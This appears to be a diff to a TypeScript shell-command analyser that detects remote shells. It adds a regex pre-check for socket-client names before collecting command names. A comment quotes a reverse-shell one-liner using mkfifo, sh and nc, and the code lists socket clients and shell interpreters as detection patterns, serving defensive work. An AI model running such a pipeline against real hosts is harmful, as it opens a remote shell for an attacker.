@@ -160,8 +160,10 @@ function walkPipeline(
       previous = undefined;
     }
   }
-  for (const name of node.descendantsOfType('command_name'))
-    if (name !== null) programs.push(name.text.replace(/^.*\//, ''));
+  // Walking the subtree again is only worth it when a socket client is named at all.
+  if (SOCKET_CLIENT_MENTION.test(node.text))
+    for (const name of node.descendantsOfType('command_name'))
+      if (name !== null) programs.push(name.text.replace(/^.*\//, ''));
   // A shell reading from or writing to a raw socket in one pipeline is a remote shell
   // (`mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f`).
   const shell = programs.find((program) => SHELL_NAMES.has(program));
@@ -190,6 +192,7 @@ const SHELL_NAMES = new Set([
   'php',
   'node',
 ]);
+const SOCKET_CLIENT_MENTION = /\b(nc|ncat|netcat|socat|telnet|openssl|cryptcat)\b/;
 const SOCKET_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'cryptcat']);
 
 function walkRedirected(
